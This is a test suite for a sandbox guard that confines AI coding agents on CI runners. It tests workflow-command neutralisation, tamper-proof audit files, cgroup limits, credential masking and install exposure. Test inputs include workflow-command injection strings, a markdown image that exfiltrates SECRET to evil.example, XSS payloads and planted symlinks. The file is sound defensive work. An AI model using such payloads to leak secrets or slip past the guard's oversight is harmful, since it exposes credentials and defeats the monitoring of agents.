// The guard's edges, piece by piece: the output filter against a model of the runner's reader, the
// files the guard writes (audit, step summary), the limits and their cgroup plans, credential files
// as data, and how agent installs under masked folders are brought back. The end-to-end attacks on
// the same edges are in e2e.edges.test.ts.
import { execFileSync, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { AuditLog, inertJson, openGuardFile, summaryText } from '../../src/guard/audit';
import { credentialRules, findCredentialFiles, parseCredentialRules } from '../../src/guard/credentialFiles';
import { GuardError } from '../../src/guard/errors';
import { ExposeError, InstallExposer } from '../../src/guard/installs';
import { jailStartScript, planCgroups, resolveLimits } from '../../src/guard/limits';
import { parseRunArgs, parseSize } from '../../src/guard/options';
import { logSafe, WorkflowCommandNeutralizer } from '../../src/guard/workflowCommands';
import { runnerCommands, utf16, utf32 } from './helpers/runnerModel';

const MIB = 1024 ** 2;

function tempDir(prefix: string): string {
  return fs.mkdtempSync(path.join(os.tmpdir(), prefix));
}

function filter(chunks: Buffer[]): Buffer {
  const n = new WorkflowCommandNeutralizer();
  return Buffer.concat([...chunks.map((c) => n.transform(c)), n.end()]);
}

/** Every byte in a chunk of its own: the worst split a pipe can deliver. */
const bytewise = (b: Buffer) => [...b].map((x) => Buffer.from([x]));

describe('output filter against the runner reader', () => {
  const commands = '::add-mask::hunter2\n::warning::x\n##[error]y\n  ::set-output name=a::b\r::stop-commands::t\n';
  const attacks: [string, Buffer][] = [
    ['UTF-16LE with BOM', utf16(commands, 'le', true)],
    ['UTF-16BE with BOM', utf16(commands, 'be', true)],
    ['UTF-32LE with BOM', utf32(commands, 'le', true)],
    ['UTF-32BE with BOM', utf32(commands, 'be', true)],
    ['UTF-8 with BOM', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(commands)])],
  ];

  it.each(attacks)('%s: the runner would run commands from the raw bytes, none from the filtered ones', (_name, raw) => {
    expect(runnerCommands(raw).length).toBeGreaterThan(0);
    for (const chunks of [[raw], bytewise(raw)]) {
      const out = filter(chunks);
      expect(runnerCommands(out)).toEqual([]);
      expect(out.includes(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
      expect(out.includes(0)).toBe(false);
      expect(Buffer.from(out.toString('utf8'), 'utf8').equals(out)).toBe(true);
    }
  });

  it.each([
    ['UTF-16LE without BOM', utf16(commands, 'le', false)],
    ['UTF-16BE without BOM', utf16(commands, 'be', false)],
    ['NUL-interleaved', Buffer.from([...Buffer.from('::add-mask::x\n')].flatMap((b) => [b, 0]))],
    ['a BOM in the middle, then UTF-16', Buffer.concat([Buffer.from('ok\n'), utf16(commands, 'le', true)])],
    ['invalid bytes before commands', Buffer.concat([Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from(commands)])],
  ])('%s: plain UTF-8 out, no commands', (_name, raw) => {
    for (const chunks of [[raw], bytewise(raw)]) {
      const out = filter(chunks);
      expect(runnerCommands(out)).toEqual([]);
      expect(out[0] === 0xff || out[0] === 0xfe || out[0] === 0x00).toBe(false);
      expect(out.includes(0)).toBe(false);
    }
  });

  it('passes valid UTF-8 through byte for byte, holding back only a cut sequence', () => {
    const text = Buffer.from('std::vector<int> v;\n\u00e9t\u00e9 \u{1f600} \u3000ok\n', 'utf8');
    expect(filter([text]).equals(text)).toBe(true);
    expect(filter(bytewise(text)).equals(text)).toBe(true);
    const n = new WorkflowCommandNeutralizer();
    const emoji = Buffer.from('\u{1f600}', 'utf8');
    expect(n.transform(Buffer.concat([Buffer.from('a'), emoji.subarray(0, 2)])).toString()).toBe('a');
    expect(n.transform(emoji.subarray(2)).equals(emoji)).toBe(true);
    // A sequence still cut when the stream ends becomes U+FFFD.
    n.transform(emoji.subarray(0, 3));
    expect(n.end().toString()).toBe('\ufffd');
  });

  it('makes the guard\'s own log lines single and command-free', () => {
    const line = logSafe('::warning::route\n##[error]x\r\u2028y');
    expect(line).not.toMatch(/[\n\r\u2028]/);
    expect(runnerCommands(Buffer.from(line))).toEqual([]);
  });
});

describe('files the guard writes', () => {
  let dir: string;
  let workspace: string;
  const uid = process.getuid?.() ?? -1;
  beforeEach(() => {
    dir = tempDir('ag-files-');
    workspace = path.join(dir, 'ws');
    fs.mkdirSync(workspace);
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  const refusal = (file: string) => {
    try {
      fs.closeSync(openGuardFile(file, [workspace], uid, '--audit'));
    } catch (err) {
      expect(err).toBeInstanceOf(GuardError);
      expect((err as GuardError).layer).toBe('audit');
      return (err as GuardError).message;
    }
    return 'opened';
  };

  it('refuses a path in the workspace, a symlink, a folder leading there, a FIFO, a folder and a second hard link', () => {
    const target = path.join(dir, 'later-step-script.sh');
    fs.writeFileSync(target, 'echo original\n');
    expect(refusal(path.join(workspace, 'audit.jsonl'))).toMatch(/inside .*ws, which the agent can write/);
    fs.symlinkSync(target, path.join(dir, 'planted.jsonl'));
    expect(refusal(path.join(dir, 'planted.jsonl'))).toMatch(/is a symlink/);
    fs.symlinkSync(workspace, path.join(dir, 'via'));
    expect(refusal(path.join(dir, 'via', 'audit.jsonl'))).toMatch(/which the agent can write/);
    execFileSync('mkfifo', [path.join(dir, 'fifo')]);
    expect(refusal(path.join(dir, 'fifo'))).toMatch(/cannot be opened|not a regular file/);
    fs.mkdirSync(path.join(dir, 'folder'));
    expect(refusal(path.join(dir, 'folder'))).toMatch(/cannot be opened|not a regular file/);
    fs.linkSync(target, path.join(dir, 'hardlink.jsonl'));
    expect(refusal(path.join(dir, 'hardlink.jsonl'))).toMatch(/2 hard links/);
    expect(fs.readFileSync(target, 'utf8')).toBe('echo original\n');
    expect(refusal(path.join(dir, 'fresh.jsonl'))).toBe('opened');
  });

  (uid === 0 ? it : it.skip)("refuses a file another user owns (root only: it makes one)", () => {
    const file = path.join(dir, 'theirs.jsonl');
    fs.writeFileSync(file, '');
    fs.chownSync(file, 4242, 4242);
    expect(refusal(file)).toMatch(/owned by uid 4242/);
  });

  it('writes JSON lines that stay JSON but carry no command or HTML', () => {
    const record = { route: '/x/##[error]y', refused: '<img src=x onerror=alert(1)> & ::warning::' };
    const line = inertJson(record);
    expect(JSON.parse(line)).toEqual(record);
    expect(line).not.toMatch(/[#<>&]/);
    expect(runnerCommands(Buffer.from(line + '\n'))).toEqual([]);
  });

  it.each([
    ['![x](https://evil.example/?q=SECRET)'],
    ['<img src="https://evil.example/p.png">'],
    ['a|b|c\n| new | row |'],
    ['::warning::from the agent\r\n##[error]x'],
    ['see www.evil.example or mail leak@evil.example'],
    ['[click](javascript:alert(1))'],
  ])('renders %j as inert text in the step summary', (text) => {
    const cell = summaryText(text);
    expect(cell).not.toMatch(/[\n\r<>]/);
    expect(cell).not.toMatch(/(?<!\\)[[\]!|`]/);
    expect(cell).not.toMatch(/https?:\/\/|www\.|@[a-z]/i);
    expect(runnerCommands(Buffer.from(cell))).toEqual([]);
  });

  it('prints no table when the agent made no request', () => {
    const md = new AuditLog().stepSummaryMarkdown(3);
    expect(md).toContain('exit code 3');
    expect(md).not.toContain('|');
  });
});

describe('limits', () => {
  it('parses sizes and the limit flags, and refuses what cannot work', () => {
    expect(parseSize('--memory', '512m')).toBe(512 * MIB);
    expect(parseSize('--memory', '2GiB')).toBe(2 * 1024 * MIB);
    expect(parseSize('--memory', '1048576')).toBe(MIB);
    expect(parseRunArgs(['--memory', '1g', '--pids', '128', '--tmpfs-size', '64m', '--', 'x'])).toMatchObject({ memory: 1024 * MIB, pids: 128, tmpfsSize: 64 * MIB });
    expect(parseRunArgs(['--memory=none', '--pids=none', '--', 'x'])).toMatchObject({ memory: 'none', pids: 'none' });
    for (const bad of [['--memory', '12'], ['--memory', '1.5g'], ['--memory', '-1g'], ['--pids', '8'], ['--tmpfs-size', '0'], ['--memory', 'lots']]) {
      expect(() => parseRunArgs([...bad, '--', 'x'])).toThrow(GuardError);
    }
  });

  it('defaults to 75% of RAM, 4096 tasks, 2 GiB scratch folders and a 64 MiB /dev/shm', () => {
    const l = resolveLimits({}, 16 * 1024 * MIB);
    expect(l).toEqual({ memory: 12 * 1024 * MIB, pids: 4096, scratchSize: 2048 * MIB, shmSize: 64 * MIB });
    expect(resolveLimits({ memory: 'none', pids: 'none', tmpfsSize: 8 * MIB })).toEqual({ memory: undefined, pids: undefined, scratchSize: 8 * MIB, shmSize: 8 * MIB });
  });

  const limits = { memory: 256 * MIB, pids: 64, scratchSize: MIB, shmSize: MIB };

  it('nests under its own cgroup on a cgroup v1 host', () => {
    const mountinfo = [
      '35 31 0:32 / /sys/fs/cgroup/memory rw,relatime - cgroup cgroup rw,memory',
      '39 31 0:36 / /sys/fs/cgroup/pids rw,relatime - cgroup cgroup rw,pids',
      '41 31 0:38 / /sys/fs/cgroup/unified rw,relatime - cgroup2 cgroup2 rw',
    ].join('\n');
    const plan = planCgroups(limits, 'ag-1', mountinfo, '8:pids:/\n4:memory:/job/7\n0::/\n', () => '');
    expect(plan).toEqual([
      { path: '/sys/fs/cgroup/memory/job/7/ag-1', writes: [{ file: 'memory.limit_in_bytes', value: String(256 * MIB) }, { file: 'memory.memsw.limit_in_bytes', value: String(256 * MIB), optional: true }] },
      { path: '/sys/fs/cgroup/pids/ag-1', writes: [{ file: 'pids.max', value: '64' }] },
    ]);
  });

  it('goes under the nearest ancestor that delegates memory and pids on a cgroup v2 host (a GitHub runner)', () => {
    const files: Record<string, string> = {
      '/sys/fs/cgroup/cgroup.controllers': 'cpuset cpu io memory pids',
      '/sys/fs/cgroup/cgroup.subtree_control': 'cpu io memory pids',
      '/sys/fs/cgroup/system.slice/cgroup.subtree_control': 'memory pids',
      '/sys/fs/cgroup/system.slice/runner.service/cgroup.subtree_control': '',
    };
    const mountinfo = '30 24 0:26 / /sys/fs/cgroup rw,nosuid - cgroup2 cgroup2 rw,nsdelegate';
    const plan = planCgroups(limits, 'ag-2', mountinfo, '0::/system.slice/runner.service\n', (f) => files[f]);
    expect(plan).toEqual([
      { path: '/sys/fs/cgroup/system.slice/ag-2', writes: [{ file: 'memory.max', value: String(256 * MIB) }, { file: 'memory.swap.max', value: '0', optional: true }, { file: 'pids.max', value: '64' }] },
    ]);
    files['/sys/fs/cgroup/system.slice/cgroup.subtree_control'] = 'cpu';
    files['/sys/fs/cgroup/cgroup.subtree_control'] = 'cpu';
    expect(() => planCgroups(limits, 'ag-2', mountinfo, '0::/system.slice/runner.service\n', (f) => files[f])).toThrow(/enable \+memory \+pids .*or run with --memory none --pids none/);
    expect(planCgroups({ ...limits, memory: undefined, pids: undefined }, 'x', mountinfo, '', () => undefined)).toEqual([]);
  });

  it('runs a start script that writes every limit, joins, then execs; or stops with one line', () => {
    const root = tempDir('ag-cg-');
    try {
      const cg = { path: path.join(root, 'ag'), writes: [{ file: 'memory.max', value: '123' }, { file: 'memory.swap.max', value: '0', optional: true }] };
      const ok = spawnSync('/bin/sh', ['-c', jailStartScript([cg], 'N', []), 'x', '/bin/echo', 'bwrap ran'], { encoding: 'utf8' });
      expect(ok.stdout).toBe('bwrap ran\n');
      expect(fs.readFileSync(path.join(cg.path, 'memory.max'), 'utf8')).toBe('123');
      expect(fs.existsSync(path.join(cg.path, 'memory.swap.max'))).toBe(false);
      expect(Number(fs.readFileSync(path.join(cg.path, 'cgroup.procs'), 'utf8'))).toBeGreaterThan(1);
      const bad = { path: path.join(root, 'missing', 'ag'), writes: [] };
      const failed = spawnSync('/bin/sh', ['-c', jailStartScript([bad], 'N', []), 'x', '/bin/echo', 'bwrap ran'], { encoding: 'utf8' });
      expect(failed.status).toBe(125);
      expect(failed.stdout).toBe('');
      expect(failed.stderr.trim().split('\n').pop()).toBe(`AGENT_GUARD_LIMITS N cannot create the cgroup ${bad.path}`);
    } finally {
      fs.rmSync(root, { recursive: true, force: true });
    }
  });
});

describe('credential files as data', () => {
  it('loads the rules and names each file kind the issue lists', () => {
    const rules = credentialRules();
    expect(rules.places.map((p) => p.glob)).toEqual(expect.arrayContaining(['gha-creds-*.json', 'gha-kubeconfig-*', 'nuget.config']));
    expect(rules.env.map((e) => e.name)).toEqual(expect.arrayContaining(['KUBECONFIG', 'DOCKER_CONFIG', 'GOOGLE_APPLICATION_CREDENTIALS', 'AZURE_CONFIG_DIR', 'AWS_SHARED_CREDENTIALS_FILE']));
    expect(rules.home).toEqual(expect.arrayContaining(['.npmrc', '.docker', '.kube', '.config/gcloud']));
  });

  it.each([
    ['places:\n  - { glob: "a/*", where: workspace, by: x }\nenv: []\nhome: []\n', /:2:5: places\[0\]\.glob must be a file name pattern/],
    ['places:\n  - { glob: "a*", where: nowhere, by: x }\nenv: []\nhome: []\n', /:2:5: places\[0\]\.where must be one of/],
    ['places: []\nenv:\n  - { name: "A-B", by: x }\nhome: []\n', /:3:5: env\[0\]\.name "A-B"/],
    ['places: []\nenv: []\nhome:\n  - ../etc\n', /:4:5: home\[0\] must be a path relative to HOME/],
    ['places: []\nenv: []\nhome: []\nextra: 1\n', /:4:1: unknown key "extra"/],
    ['places: []\nenv:\n  - { name: A, by: x, lst: true }\nhome: []\n', /:3:23: env\[0\]: unknown key "lst"/],
    ['places: []\nplaces: []\nenv: []\nhome: []\n', /:2:1: Map keys must be unique/],
  ])('refuses a bad entry with file, line and column', (text, message) => {
    expect(() => parseCredentialRules(text, 'rules/credential-files.yml')).toThrow(message);
  });

  it('finds them next to the workspace and where variables point, without following planted symlinks', () => {
    const root = tempDir('ag-creds-');
    try {
      const ws = path.join(root, 'work', 'repo');
      fs.mkdirSync(ws, { recursive: true });
      fs.writeFileSync(path.join(ws, 'gha-creds-abc.json'), '{}');
      fs.writeFileSync(path.join(ws, 'gha-kubeconfig-0ab51d4e7909dbae'), 'token: x');
      fs.writeFileSync(path.join(root, 'work', 'nuget.config'), '<ClearTextPassword/>');
      fs.symlinkSync('/etc/hostname', path.join(ws, 'gha-creds-planted.json'));
      fs.mkdirSync(path.join(root, 'docker'));
      fs.writeFileSync(path.join(root, 'kube-a'), '');
      fs.writeFileSync(path.join(root, 'kube-b'), '');
      const found = findCredentialFiles(ws, { KUBECONFIG: `${root}/kube-a:${root}/kube-b:relative`, DOCKER_CONFIG: path.join(root, 'docker'), AWS_CONFIG_FILE: '/nonexistent' });
      expect(found.files.sort()).toEqual([path.join(root, 'kube-a'), path.join(root, 'kube-b'), path.join(root, 'work', 'nuget.config'), path.join(ws, 'gha-creds-abc.json'), path.join(ws, 'gha-kubeconfig-0ab51d4e7909dbae')].sort());
      expect(found.dirs).toEqual([path.join(root, 'docker')]);
    } finally {
      fs.rmSync(root, { recursive: true, force: true });
    }
  });
});

describe('agent installs under masked folders', () => {
  let home: string;
  let ws: string;
  const write = (p: string, text: string, mode = 0o755) => {
    fs.mkdirSync(path.dirname(p), { recursive: true });
    fs.writeFileSync(p, text, { mode });
  };
  const link = (target: string, p: string) => {
    fs.mkdirSync(path.dirname(p), { recursive: true });
    fs.symlinkSync(target, p);
  };
  beforeEach(() => {
    const root = fs.realpathSync(tempDir('ag-inst-'));
    home = path.join(root, 'home');
    ws = path.join(home, 'work', 'repo');
    fs.mkdirSync(ws, { recursive: true });
    // uv tool install aider-chat: a venv whose python is one of uv's own, and a link in ~/.local/bin.
    const py = path.join(home, '.local/share/uv/python/cpython-3.12-linux/bin/python3.12');
    write(py, 'ELF');
    fs.mkdirSync(path.join(home, '.local/share/uv/python/cpython-3.12-linux/lib'));
    const venv = path.join(home, '.local/share/uv/tools/aider-chat');
    write(path.join(venv, 'pyvenv.cfg'), `home = ${path.dirname(py)}\n`, 0o644);
    link(py, path.join(venv, 'bin/python'));
    write(path.join(venv, 'bin/aider'), `#!${venv}/bin/python\nimport aider\n`);
    link('../share/uv/tools/aider-chat/bin/aider', path.join(home, '.local/bin/aider'));
    // The goose installer: a binary in ~/.local/bin. The Claude installer: a link to a version.
    write(path.join(home, '.local/bin/goose'), 'ELF');
    write(path.join(home, '.local/share/claude/versions/2.1.0'), 'ELF');
    link(path.join(home, '.local/share/claude/versions/2.1.0'), path.join(home, '.local/bin/claude'));
    // opencode's installer, and credentials right next to everything.
    write(path.join(home, '.opencode/bin/opencode'), 'ELF');
    write(path.join(home, '.npmrc'), '//registry.npmjs.org/:_authToken=npm_SECRET', 0o600);
  });
  afterEach(() => fs.rmSync(path.dirname(home), { recursive: true, force: true }));

  const exposer = () => new InstallExposer({ masked: [home], shown: [ws], neverWhole: [home, path.join(home, '.config')], credentials: [path.join(home, '.npmrc')] });

  it('brings back ~/.local/bin, its links, the venv and its interpreter, and never HOME or the credentials', () => {
    const e = exposer();
    e.pathDir(path.join(home, '.local/bin'));
    e.pathDir(path.join(home, '.opencode/bin'));
    const r = e.result();
    expect(r.binds.sort()).toEqual([
      path.join(home, '.local/bin'),
      path.join(home, '.local/share/claude/versions/2.1.0'),
      path.join(home, '.local/share/uv/python/cpython-3.12-linux'),
      path.join(home, '.local/share/uv/tools/aider-chat'),
      path.join(home, '.opencode/bin'),
    ].sort());
    expect(r.binds.some((b) => path.join(home, '.npmrc').startsWith(b + '/') || b === home)).toBe(false);
    expect(r.skipped).toEqual([]);
  });

  it('leaves out a program that would expose a credential, and refuses it as the command', () => {
    link(path.join(home, '.npmrc'), path.join(home, '.local/bin/npmrc-reader'));
    fs.chmodSync(path.join(home, '.npmrc'), 0o700);
    const e = exposer();
    e.pathDir(path.join(home, '.local/bin'));
    expect(e.result().skipped.join('\n')).toMatch(/npmrc-reader: .*credential file/);
    expect(() => exposer().require(path.join(home, '.local/bin/npmrc-reader'))).toThrow(ExposeError);
  });

  it('refuses a workspace symlink into a masked folder (the repository chose it)', () => {
    link(path.join(home, '.local/share/claude/versions/2.1.0'), path.join(ws, 'agent'));
    expect(() => exposer().require(path.join(ws, 'agent'))).toThrow(/symlink in the workspace/);
  });

  it('does not take a masked folder or HOME as a PATH entry', () => {
    const e = exposer();
    e.pathDir(home);
    expect(e.result()).toEqual({ binds: [], symlinks: new Map(), skipped: [expect.stringMatching(/masks whole/)] });
  });
});
